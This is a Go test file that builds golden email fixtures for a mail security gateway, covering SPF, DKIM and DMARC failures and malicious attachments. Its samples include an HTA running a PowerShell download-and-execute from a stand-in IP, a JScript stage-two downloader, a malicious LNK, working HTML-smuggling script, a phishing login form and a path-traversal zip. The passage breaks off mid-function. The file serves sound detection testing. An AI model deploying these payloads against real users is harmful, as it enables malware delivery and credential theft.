package gateway

// The golden fixtures in testdata/ are written by TestGenerateGoldenFixtures
// from the recipes below, so that every binary attachment is reproducible.
// `go test ./gateway -run Golden -update` writes the fixtures of new
// recipes and rewrites every .want.json; after editing a recipe, add
// -regenerate to rewrite all fixtures. Review the changed files like code.
// Archives made by zip and 7z carry random salts, ISO images and DKIM
// signatures the current time, so regenerating changes those bytes (and
// the sha256 in the .want.json files) even when nothing else changed:
// that is why existing fixtures are kept unless asked.

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"mime"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf16"

	diskfile "github.com/diskfs/go-diskfs/backend/file"
	"github.com/diskfs/go-diskfs/filesystem/iso9660"
	"github.com/emersion/go-msgauth/dkim"

	"github.com/mailguard/mailguard/sandbox"
)

// goldenFiles are the files of one golden case besides its .want.json.
type goldenFiles struct {
	eml      []byte
	dns      string            // NN-name.dns: zone in master-file text
	env      string            // NN-name.env: envelope, "key value" lines
	hcl      string            // NN-name.hcl: appended to the base policy
	verdicts []sandbox.Verdict // NN-name.verdicts.json: sandbox cache
}

// goldenRecipe builds one case.
type goldenRecipe struct {
	name  string
	build func(t *testing.T, k *kit) goldenFiles
}

// kit holds what recipes share: the DKIM key and a scratch directory.
type kit struct {
	key ed25519.PrivateKey
	dir string
}

// goldenDate is the Date of every fixture (and the test clock is near it).
const goldenDate = "Mon, 23 Nov 2026 17:30:00 +0900"

// partnerZone is the DNS of a well-behaved sender: SPF for its network,
// DKIM with the committed key, DMARC p=reject.
func (k *kit) partnerZone() string {
	return "partner.example.                TXT \"v=spf1 ip4:198.51.100.0/24 -all\"\n" +
		"_dmarc.partner.example.         TXT \"v=DMARC1; p=reject; rua=mailto:dmarc@partner.example\"\n" +
		k.dkimRecord()
}

func (k *kit) dkimRecord() string {
	pub := k.key.Public().(ed25519.PublicKey)
	return fmt.Sprintf("sel._domainkey.partner.example. TXT \"v=DKIM1; k=ed25519; p=%s\"\n", base64.StdEncoding.EncodeToString(pub))
}

// sign adds a DKIM-Signature of partner.example (selector sel).
func (k *kit) sign(t testing.TB, msg []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	err := dkim.Sign(&b, bytes.NewReader(msg), &dkim.SignOptions{
		Domain: "partner.example", Selector: "sel", Signer: k.key,
		HeaderCanonicalization: dkim.CanonicalizationRelaxed, BodyCanonicalization: dkim.CanonicalizationRelaxed,
		HeaderKeys: []string{"From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Content-Type"},
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var goldenRecipes = []goldenRecipe{
	{"00-clean", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "00-clean", subject: "来週の打ち合わせについて",
			text: "田中様\r\n\r\nお世話になっております。来週火曜日 14 時からの打ち合わせの件、\r\n会議室を予約いたしました。\r\n\r\n佐藤\r\n"}
		return goldenFiles{eml: k.sign(t, m.bytes()), dns: k.partnerZone()}
	}},
	{"01-spf-fail", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "01-spf-fail", subject: "Invoice 2026-11", text: "Please find the invoice details below.\r\n"}
		return goldenFiles{eml: m.bytes(), dns: "partner.example. TXT \"v=spf1 ip4:198.51.100.0/24 -all\"\n",
			env: "client_ip 203.0.113.66\nhelo mail.attacker.example\n"}
	}},
	{"02-spf-softfail", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "02-spf-softfail", subject: "Meeting notes", text: "Notes from today's meeting.\r\n"}
		return goldenFiles{eml: m.bytes(), dns: "partner.example. TXT \"v=spf1 ip4:198.51.100.0/24 ~all\"\n",
			env: "client_ip 203.0.113.66\nhelo mail.attacker.example\n"}
	}},
	{"03-spf-permerror", func(t *testing.T, k *kit) goldenFiles {
		// RFC 7208 §4.5: two SPF records are a permerror.
		m := letter{id: "03-spf-permerror", subject: "Meeting notes", text: "Notes from today's meeting.\r\n"}
		return goldenFiles{eml: m.bytes(), dns: "partner.example. TXT \"v=spf1 ip4:198.51.100.0/24 -all\"\n" +
			"partner.example. TXT \"v=spf1 include:_spf.mailer.example ~all\"\n"}
	}},
	{"04-spf-temperror", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "04-spf-temperror", subject: "Meeting notes", text: "Notes from today's meeting.\r\n"}
		return goldenFiles{eml: m.bytes(), dns: "$SERVFAIL txt partner.example.\n"}
	}},
	{"05-dkim-fail", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "05-dkim-fail", subject: "振込先変更のお知らせ", text: "振込先口座を下記に変更いたします。\r\n○○銀行 本店 普通 1234567\r\n"}
		signed := k.sign(t, m.bytes())
		// The body was changed after signing (a man in the middle).
		tampered := bytes.Replace(signed, []byte("1234567"), []byte("7654321"), 1)
		return goldenFiles{eml: tampered, dns: "partner.example. TXT \"v=spf1 ip4:198.51.100.0/24 -all\"\n" + k.dkimRecord()}
	}},
	{"06-dmarc-reject", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "06-dmarc-reject", from: "Bank Security <security@bank.example>", subject: "Verify your account",
			text: "Your account has been locked. Sign in to unlock it.\r\n"}
		return goldenFiles{eml: m.bytes(),
			dns: "bank.example.        TXT \"v=spf1 ip4:192.0.2.0/24 -all\"\n" +
				"_dmarc.bank.example. TXT \"v=DMARC1; p=reject\"\n",
			env: "client_ip 203.0.113.66\nhelo mail.attacker.example\nmail_from security@bank.example\n"}
	}},
	{"07-dmarc-quarantine", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "07-dmarc-quarantine", from: "Shop <news@shop.example>", subject: "Your order has shipped",
			text: "Track your parcel in your account.\r\n"}
		return goldenFiles{eml: m.bytes(),
			dns: "shop.example.        TXT \"v=spf1 ip4:192.0.2.0/24 ?all\"\n" +
				"_dmarc.shop.example. TXT \"v=DMARC1; p=quarantine\"\n",
			env: "client_ip 203.0.113.66\nhelo mail.attacker.example\nmail_from news@shop.example\n"}
	}},
	{"08-dmarc-none-fail", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "08-dmarc-none-fail", from: "Shop <news@shop.example>", subject: "Your order has shipped",
			text: "Track your parcel in your account.\r\n"}
		return goldenFiles{eml: m.bytes(),
			dns: "shop.example.        TXT \"v=spf1 ip4:192.0.2.0/24 ?all\"\n" +
				"_dmarc.shop.example. TXT \"v=DMARC1; p=none; rua=mailto:d@shop.example\"\n",
			env: "client_ip 203.0.113.66\nhelo mail.attacker.example\nmail_from news@shop.example\n"}
	}},
	{"09-dmarc-temperror", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "09-dmarc-temperror", subject: "Meeting notes", text: "Notes from today's meeting.\r\n"}
		return goldenFiles{eml: m.bytes(), dns: "partner.example. TXT \"v=spf1 ip4:198.51.100.0/24 -all\"\n" +
			"$SERVFAIL txt _dmarc.partner.example.\n"}
	}},
	{"10-forged-auth-results", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "10-forged-auth-results", subject: "Quarterly report", text: "The numbers are attached.\r\n",
			header: "Authentication-Results: mx.corp.example; spf=pass smtp.mailfrom=ceo@corp.example;\r\n\tdkim=pass header.d=corp.example; dmarc=pass header.from=corp.example\r\n"}
		return goldenFiles{eml: m.bytes(), dns: "partner.example. TXT \"v=spf1 ip4:198.51.100.0/24 -all\"\n"}
	}},
	{"11-malware-yara", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "11-malware-yara", subject: "test file", text: "See the attachment.\r\n",
			parts: []mimePart{attachment("eicar_test.txt", "text/plain", []byte(eicar))}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"12-encrypted-unscannable", func(t *testing.T, k *kit) goldenFiles {
		need(t, "zip")
		dir := k.files(t, map[string][]byte{"請求書.xlsx": []byte("PK placeholder for an invoice")})
		run(t, dir, "zip", "-q", "-P", "Never-In-This-Mail-7", "out.zip", "請求書.xlsx")
		m := letter{id: "12-encrypted-unscannable", subject: "請求書送付の件",
			text:  "お世話になっております。\r\n請求書を送付いたします。パスワードは別途お送りします。\r\n",
			parts: []mimePart{attachment("請求書.zip", "application/zip", readFile(t, filepath.Join(dir, "out.zip")))}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"13-password-found-body", func(t *testing.T, k *kit) goldenFiles {
		need(t, "7z")
		dir := k.files(t, map[string][]byte{"見積書.txt": []byte("お見積金額: 1,234,000 円\n")})
		run(t, dir, "7z", "a", "-bso0", "-tzip", "-mem=AES256", "-pMg7-Kx29q", "out.zip", "見積書.txt")
		m := letter{id: "13-password-found-body", subject: "お見積書送付の件",
			text:  "お世話になっております。\r\nお見積書を添付いたします。\r\n\r\nパスワード：Mg7-Kx29q\r\n\r\nよろしくお願いいたします。\r\n",
			parts: []mimePart{attachment("見積書.zip", "application/zip", readFile(t, filepath.Join(dir, "out.zip")))}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"14-archive-bomb", func(t *testing.T, k *kit) goldenFiles {
		// 4 MiB of zeros deflate to about 4 KiB: a ratio near 1000.
		z := mkZip(t, zipEntry{"zeros.bin", make([]byte, 4<<20)})
		m := letter{id: "14-archive-bomb", subject: "data", text: "See attached.\r\n",
			parts: []mimePart{attachment("data.zip", "application/zip", z)}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"15-archive-depth", func(t *testing.T, k *kit) goldenFiles {
		// Ten zips in each other; the default max_depth is 8.
		z := mkZip(t, zipEntry{"deep.txt", []byte("at the bottom\n")})
		for i := 10; i >= 2; i-- {
			z = mkZip(t, zipEntry{fmt.Sprintf("level%d.zip", i), z})
		}
		m := letter{id: "15-archive-depth", subject: "files", text: "See attached.\r\n",
			parts: []mimePart{attachment("level1.zip", "application/zip", z)}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"16-exec-attachment", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "16-exec-attachment", subject: "update", text: "Please install the attached update.\r\n",
			parts: []mimePart{attachment("setup.exe", "application/octet-stream", minimalPE())}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"17-double-extension", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "17-double-extension", subject: "請求書", text: "請求書をお送りします。\r\n",
			parts: []mimePart{attachment("請求書.pdf.exe", "application/pdf", minimalPE())}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"18-rtlo-filename", func(t *testing.T, k *kit) goldenFiles {
		// Displayed as "invoice_exe.pdf"; really invoice_fdp.exe.
		m := letter{id: "18-rtlo-filename", subject: "invoice", text: "Invoice attached.\r\n",
			parts: []mimePart{attachment("invoice_\u202efdp.exe", "application/octet-stream", minimalPE())}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"19-macro-document", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "19-macro-document", subject: "見積書", text: "見積書を添付いたします。マクロを有効にしてご覧ください。\r\n",
			parts: []mimePart{attachment("見積書.docm", "application/vnd.ms-word.document.macroEnabled.12", mkDocm(t))}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"20-lnk-in-container", func(t *testing.T, k *kit) goldenFiles {
		iso := mkISO(t, k.dir, map[string][]byte{
			"/INVOICE.LNK": mkLNK(`C:\Windows\System32\cmd.exe`, `/c start /min rundll32 payload.dll,Run`, `%TEMP%`, `C:\Windows\System32\imageres.dll`),
			"/README.TXT":  []byte("Open INVOICE to view the document.\r\n"),
		})
		m := letter{id: "20-lnk-in-container", subject: "Invoice", text: "The invoice is in the attached disk image.\r\n",
			parts: []mimePart{attachment("invoice.iso", "application/octet-stream", iso)}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"21-html-smuggling", func(t *testing.T, k *kit) goldenFiles {
		payload := base64.StdEncoding.EncodeToString(mkZip(t, zipEntry{"invoice.js", []byte("WScript.Echo('x');\n")}))
		doc := `<html><body><p>Loading your document...</p><script>
var b = atob("` + payload + `");
var a = new Uint8Array(b.length);
for (var i = 0; i < b.length; i++) { a[i] = b.charCodeAt(i); }
var blob = new Blob([a], {type: "application/octet-stream"});
var l = document.createElement("a");
l.href = window.URL.createObjectURL(blob);
l.download = "invoice.zip";
document.body.appendChild(l);
l.click();
</script></body></html>
`
		m := letter{id: "21-html-smuggling", subject: "Shared document", text: "Open the attached page to download the document.\r\n",
			parts: []mimePart{attachment("document.html", "text/html", []byte(doc))}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"22-pdf-active-content", func(t *testing.T, k *kit) goldenFiles {
		pdf := objectStreamPDF(t,
			"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
			"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
			"<< /Type /Action /S /JavaScript /JS (app.alert\\('Please update your reader'\\);) >>")
		if bytes.Contains(pdf, []byte("/JavaScript")) {
			t.Fatal("the JavaScript is visible outside the object stream")
		}
		m := letter{id: "22-pdf-active-content", subject: "Statement", text: "Your statement is attached.\r\n",
			parts: []mimePart{attachment("statement.pdf", "application/pdf", pdf)}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"23-onenote-embedded-file", func(t *testing.T, k *kit) goldenFiles {
		hta := []byte("<html><head><hta:application id=\"x\"/></head><script language=\"vbscript\">\r\n" +
			"CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr http://198.51.100.99/p.ps1|iex\"\r\n</script></html>\r\n")
		m := letter{id: "23-onenote-embedded-file", subject: "Notes", text: "Double-click the button in the notebook to view the file.\r\n",
			parts: []mimePart{attachment("notes.one", "application/onenote", mkOneNote(hta))}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"24-unsupported-container", func(t *testing.T, k *kit) goldenFiles {
		// A zip whose entry uses a compression method neither mailguard
		// nor 7z decodes (97, WavPack).
		z := mkZipRaw(t, "report.doc", 97, []byte("\x00\x01\x02 not really wavpack \x03\x04"), 4096)
		m := letter{id: "24-unsupported-container", subject: "report", text: "Report attached.\r\n",
			parts: []mimePart{attachment("report.zip", "application/zip", z)}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"25-path-traversal", func(t *testing.T, k *kit) goldenFiles {
		z := mkZip(t, zipEntry{"../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/readme.txt", []byte("hello\r\n")})
		m := letter{id: "25-path-traversal", subject: "files", text: "See attached.\r\n",
			parts: []mimePart{attachment("files.zip", "application/zip", z)}}
		return goldenFiles{eml: m.bytes()}
	}},
	{"26-malformed-mime", func(t *testing.T, k *kit) goldenFiles {
		raw := "From: Alice Sato <alice@partner.example>\r\nTo: Bob Tanaka <bob@corp.example>\r\nSubject: broken\r\n" +
			"Date: " + goldenDate + "\r\nMessage-ID: <26-malformed-mime@partner.example>\r\nMIME-Version: 1.0\r\n" +
			"Content-Type: multipart/mixed\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nThe boundary parameter is missing.\r\n--x--\r\n"
		return goldenFiles{eml: []byte(raw)}
	}},
	{"27-trap-recipient", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "27-trap-recipient", to: "trap@corp.example", subject: "Business proposal", text: "Dear trap,\r\n"}
		return goldenFiles{eml: m.bytes(), env: "rcpt trap@corp.example\n",
			hcl: "lists {\n  trap_addresses = [\"trap@corp.example\"]\n}\n"}
	}},
	{"28-blocked-sender", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "28-blocked-sender", from: "Offers <offers@spammer.example>", subject: "Cheap watches", text: "Buy now.\r\n"}
		return goldenFiles{eml: m.bytes(), env: "mail_from offers@spammer.example\n",
			hcl: "lists {\n  block_senders = [\"@spammer.example\", \"bad-actor.example\"]\n}\n"}
	}},
	{"29-blocked-file", func(t *testing.T, k *kit) goldenFiles {
		// A harmless-looking PDF the SOC saw in another campaign.
		doc := mkPDF("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
		sum := sha256.Sum256(doc)
		m := letter{id: "29-blocked-file", subject: "資料", text: "資料を添付いたします。\r\n",
			parts: []mimePart{attachment("資料.pdf", "application/pdf", doc)}}
		return goldenFiles{eml: m.bytes(), hcl: fmt.Sprintf("lists {\n  block_sha256 = [%q]\n}\n", hex.EncodeToString(sum[:]))}
	}},
	{"30-ip-blocklisted", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "30-ip-blocklisted", subject: "Hello", text: "Hello.\r\n"}
		return goldenFiles{eml: m.bytes(),
			dns: "7.100.51.198.dnsbl.test. A   127.0.0.2\n7.100.51.198.dnsbl.test. TXT \"listed: botnet\"\n",
			hcl: "reputation {\n  zone \"dnsbl.test\" {\n    weight = 3\n  }\n}\n"}
	}},
	{"31-url-blocklisted", func(t *testing.T, k *kit) goldenFiles {
		m := letter{id: "31-url-blocklisted", subject: "Password expiry", text: "Your password expires today. Keep it here:\r\nhttps://login.evil-invoice.example/corp/keep\r\n"}
		return goldenFiles{eml: m.bytes(), dns: "evil-invoice.example.uribl.test. A 127.0.0.2\n",
			hcl: "reputation {\n  uribl = [\"uribl.test\"]\n}\n"}
	}},
	{"32-malware-sandbox", func(t *testing.T, k *kit) goldenFiles {
		js := []byte("var x = new ActiveXObject('MSXML2.XMLHTTP');\nx.open('GET', 'http://198.51.100.99/stage2', false);\nx.send();\n")
		sum := sha256.Sum256(js)
		m := letter{id: "32-malware-sandbox", subject: "Invoice", text: "Invoice attached.\r\n",
			parts: []mimePart{attachment("invoice.js", "application/octet-stream", js)}}
		return goldenFiles{eml: m.bytes(), hcl: goldenSandbox, verdicts: []sandbox.Verdict{{
			SHA256: hex.EncodeToString(sum[:]), TaskID: "4711", State: sandbox.StateDone, Malscore: 9.5, Malstatus: "Malicious",
			Signatures: []string{"network_http", "script_downloader"}, Detections: []string{"GuLoader"}, Family: "GuLoader",
			At: time.Date(2026, 11, 23, 8, 0, 0, 0, time.UTC)}}}
	}},
	{"33-sandbox-timeout", func(t *testing.T, k *kit) goldenFiles {
		js := []byte("var s = 'never judged';\nWScript.Echo(s);\n")
		m := letter{id: "33-sandbox-timeout", subject: "Invoice", text: "Invoice attached.\r\n",
			parts: []mimePart{attachment("invoice.js", "application/octet-stream", js)}}
		// Held since 08:30; the hold deadline (08:59) passed before the
		// clock's 09:00.
		return goldenFiles{eml: m.bytes(), hcl: goldenSandbox, env: "hold_until 2026-11-23T08:59:00Z\n"}
	}},
	{"34-sandbox-pending", func(t *testing.T, k *kit) goldenFiles {
		js := []byte("var s = 'not judged yet';\nWScript.Echo(s);\n")
		m := letter{id: "34-sandbox-pending", subject: "Invoice", text: "Invoice attached.\r\n",
			parts: []mimePart{attachment("invoice.js", "application/octet-stream", js)}}
		return goldenFiles{eml: m.bytes(), hcl: goldenSandbox}
	}},
	// Defects every reader resolves alike: delivered, with the score.
	{"35-malformed-minor", func(t *testing.T, k *kit) goldenFiles {
		raw := "From: Alice Sato <alice@partner.example>\r\nTo: Bob Tanaka <bob@corp.example>\r\n" +
			"Subject: =?ISO-2022-JP?B?GyRCOC0/UTFrMyQbKEI=?=\r\nDate: " + goldenDate + "\r\n" +
			"Message-ID: <35-malformed-minor@partner.example>\r\nMIME-Version: 1.0\r\n" +
			"Content-Type: multipart/mixed; boundary=\"b35\"\r\n\r\n" +
			"--b35\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n\r\n" +
			"An old mailer: the closing boundary is missing and the\r\nattachment has a stray character in its base64.\r\n\r\n" +
			"--b35\r\nContent-Type: text/csv; name=\"list.csv\"\r\nContent-Disposition: attachment; filename=\"list.csv\"\r\n" +
			"Content-Transfer-Encoding: base64\r\n\r\nbmFtZSxkZXB0CnNhdG8sc2FsZXMK!\r\n"
		return goldenFiles{eml: []byte(raw)}
	}},
	// Template injection: the document fetches a macro template at open.
	{"36-remote-template", func(t *testing.T, k *kit) goldenFiles {
		rt := "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
		docx := mkZip(t,
			zipEntry{"[Content_Types].xml", []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`)},
			zipEntry{"_rels/.rels", []byte(`<Relationships/>`)},
			zipEntry{"word/document.xml", []byte(`<w:document/>`)},
			zipEntry{"word/_rels/settings.xml.rels", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="` + rt + `attachedTemplate" Target="http://198.51.100.7/templates/report.dotm" TargetMode="External"/></Relationships>`)})
		m := letter{id: "36-remote-template", subject: "会議資料", text: "会議資料をお送りします。\r\n",
			parts: []mimePart{attachment("会議資料.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx)}}
		return goldenFiles{eml: m.bytes()}
	}},
	// An RTF with an Equation Editor object (the CVE-2017-11882 shape).
	{"37-exploit-object", func(t *testing.T, k *kit) goldenFiles {
		rtf := `{\rtf1\ansi{\fonttbl{\f0 MS Mincho;}}\f0 Order list\par{\object\objemb\objw380\objh260{\*\objclass Equation.3}` +
			`{\*\objdata 01050000020000000b0000004571756174696f6e2e33000000000000000000000c0000001c000000020000000000}}}`
		m := letter{id: "37-exploit-object", subject: "注文書", text: "注文書を送付します。\r\n",
			parts: []mimePart{attachment("注文書.rtf", "application/rtf", []byte(rtf))}}
		return goldenFiles{eml: m.bytes()}
	}},
	// A credential-phishing page mailed as an attachment.
	{"38-credential-form", func(t *testing.T, k *kit) goldenFiles {
		page := `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Microsoft 365</title></head><body>` +
			`<p>文書を表示するにはサインインしてください。</p><form method="post" action="https://login-m365.example.net/auth.php">` +
			`<input type="email" name="u" value="bob@corp.example"><input type="password" name="p"><button>サインイン</button></form></body></html>`
		m := letter{id: "38-credential-form", subject: "共有ドキュメント", text: "共有ドキュメントをご確認ください。\r\n",
			parts: []mimePart{attachment("Document.html", "text/html", []byte(page))}}
		return goldenFiles{eml: m.bytes()}
	}},
}

// goldenSandbox configures a sandbox that is never contacted: golden
// cases inspect offline, so only cached verdicts count.
const goldenSandbox = `sandbox "cape" {
  url          = "http://127.0.0.1:9/apiv2/"
  hold_timeout = "30m"
  search_first = false
}
`

// eicar is the EICAR anti-malware test file.
const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

var generateOnce struct {
	sync.Once
	failed bool
}

// generateGolden writes the fixtures of every recipe, once per test run.
func generateGolden(t *testing.T) {
	t.Helper()
	generateOnce.Do(func() {
		generateOnce.failed = true
		k := &kit{key: loadDKIMKey(t), dir: t.TempDir()}
		for _, r := range goldenRecipes {
			if _, err := os.Stat(filepath.Join("testdata", r.name+".eml")); err == nil && !*regenerate {
				continue
			}
			files := r.build(t, k)
			if t.Failed() || t.Skipped() {
				return
			}
			writeGolden(t, r.name, files)
		}
		generateOnce.failed = false
	})
	if generateOnce.failed {
		t.Fatal("generating the golden fixtures failed")
	}
}

var regenerate = flag.Bool("regenerate", false, "with -update: rewrite every golden fixture, not only missing ones")

// TestGenerateGoldenFixtures writes testdata/NN-name.{eml,dns,env,hcl,
// verdicts.json} from the recipes; it runs only with -update, and keeps
// existing fixtures unless -regenerate is given.
func TestGenerateGoldenFixtures(t *testing.T) {
	if !*update {
		t.Skip("run with -update to regenerate the golden fixtures")
	}
	generateGolden(t)
}

func writeGolden(t *testing.T, name string, f goldenFiles) {
	t.Helper()
	base := filepath.Join("testdata", name)
	write := func(ext string, b []byte) {
		p := base + ext
		if b == nil {
			if err := os.Remove(p); err != nil && !errors.Is(err, os.ErrNotExist) {
				t.Fatal(err)
			}
			return
		}
		if err := os.WriteFile(p, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	text := func(s string) []byte {
		if s == "" {
			return nil
		}
		return []byte(s)
	}
	write(".eml", f.eml)
	write(".dns", text(f.dns))
	write(".env", text(f.env))
	write(".hcl", text(f.hcl))
	var v []byte
	if len(f.verdicts) > 0 {
		var err error
		if v, err = json.MarshalIndent(f.verdicts, "", "  "); err != nil {
			t.Fatal(err)
		}
		v = append(v, '\n')
	}
	write(".verdicts.json", v)
}

// loadDKIMKey reads the committed signing key, creating it on first use.
func loadDKIMKey(t testing.TB) ed25519.PrivateKey {
	t.Helper()
	p := filepath.Join("testdata", "dkim-ed25519.pem")
	b, err := os.ReadFile(p)
	if errors.Is(err, os.ErrNotExist) {
		_, key, err := ed25519.GenerateKey(rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		der, err := x509.MarshalPKCS8PrivateKey(key)
		if err != nil {
			t.Fatal(err)
		}
		b = pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})
		if err := os.WriteFile(p, b, 0o644); err != nil {
			t.Fatal(err)
		}
	} else if err != nil {
		t.Fatal(err)
	}
	blk, _ := pem.Decode(b)
	if blk == nil {
		t.Fatalf("%s: no PEM block", p)
	}
	k, err := x509.ParsePKCS8PrivateKey(blk.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	key, ok := k.(ed25519.PrivateKey)
	if !ok {
		t.Fatalf("%s: %T, want an ed25519 key", p, k)
	}
	return key
}

// ---- messages ----

// letter is a fixture message; empty fields take the defaults of a mail
// from Alice at partner.example to Bob at corp.example.
type letter struct {
	id, from, to, subject string
	header                string // extra fields, CRLF-terminated, placed first
	text                  string // text/plain body, UTF-8
	parts                 []mimePart
}

type mimePart struct {
	header string
	body   string
}

func (m letter) bytes() []byte {
	from, to := m.from, m.to
	if from == "" {
		from = "Alice Sato <alice@partner.example>"
	}
	if to == "" {
		to = "Bob Tanaka <bob@corp.example>"
	}
	var b strings.Builder
	b.WriteString(m.header)
	fmt.Fprintf(&b, "From: %s\r\nTo: %s\r\nSubject: %s\r\nDate: %s\r\nMessage-ID: <%s@partner.example>\r\nMIME-Version: 1.0\r\n",
		from, to, mime.BEncoding.Encode("UTF-8", m.subject), goldenDate, m.id)
	text := mimePart{header: "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n", body: m.text}
	if len(m.parts) == 0 {
		b.WriteString(text.header + "\r\n" + text.body)
		return []byte(b.String())
	}
	b.WriteString("Content-Type: multipart/mixed; boundary=\"=_golden\"\r\n\r\nThis is a multi-part message in MIME format.\r\n")
	for _, p := range append([]mimePart{text}, m.parts...) {
		b.WriteString("--=_golden\r\n" + p.header + "\r\n" + p.body)
		if !strings.HasSuffix(p.body, "\r\n") {
			b.WriteString("\r\n")
		}
	}
	b.WriteString("--=_golden--\r\n")
	return []byte(b.String())
}

// attachment is a base64 part; a non-ASCII name is encoded as RFC 2231.
func attachment(name, ctype string, data []byte) mimePart {
	disp := mime.FormatMediaType("attachment", map[string]string{"filename": name})
	ct := mime.FormatMediaType(ctype, map[string]string{"name": name})
	enc := base64.StdEncoding.EncodeToString(data)
	var body strings.Builder
	for len(enc) > 76 {
		body.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	body.WriteString(enc + "\r\n")
	return mimePart{header: "Content-Type: " + ct + "\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: " + disp + "\r\n",
		body: body.String()}
}

// ---- tools and archives ----

// need skips the test when a tool is missing, or fails it when
// MAILGUARD_E2E_STRICT=1.
func need(t testing.TB, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			if os.Getenv("MAILGUARD_E2E_STRICT") == "1" {
				t.Fatalf("%s is not installed (MAILGUARD_E2E_STRICT=1)", tool)
			}
			t.Skipf("%s is not installed", tool)
		}
	}
}

func run(t testing.TB, dir, name string, args ...string) {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
}

func readFile(t testing.TB, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// files writes files into a fresh directory under the kit's scratch dir.
func (k *kit) files(t testing.TB, files map[string][]byte) string {
	t.Helper()
	dir, err := os.MkdirTemp(k.dir, "f")
	if err != nil {
		t.Fatal(err)
	}
	for n, b := range files {
		if err := os.WriteFile(filepath.Join(dir, n), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

type zipEntry struct {
	name string
	data []byte
}

// zipTime makes Go-built zips byte-for-byte reproducible.
var zipTime = time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)

func mkZip(t testing.TB, entries ...zipEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Deflate, Modified: zipTime})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(e.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// mkZipRaw writes one entry with the given method number and raw
// (already "compressed") data.
func mkZipRaw(t testing.TB, name string, method uint16, raw []byte, size uint64) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: method, Modified: zipTime,
